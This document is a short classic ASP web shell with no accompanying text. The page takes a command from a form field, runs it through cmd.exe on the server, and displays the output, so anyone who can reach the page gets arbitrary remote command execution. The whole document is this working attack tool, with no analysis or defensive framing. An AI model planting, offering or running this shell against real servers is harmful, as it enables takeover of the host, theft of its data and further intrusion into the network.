<%
Dim c, sh, ex
c = Request.Form("c")
If c <> "" Then
  Set sh = Server.CreateObject("WScript.Shell")
  Set ex = sh.Exec("cmd.exe /c " & c)
  Response.Write "<pre>" & Server.HTMLEncode(ex.StdOut.ReadAll()) & "</pre>"
End If
%>
<form method="post"><input name="c" size="60"><input type="submit" value="go"></form>
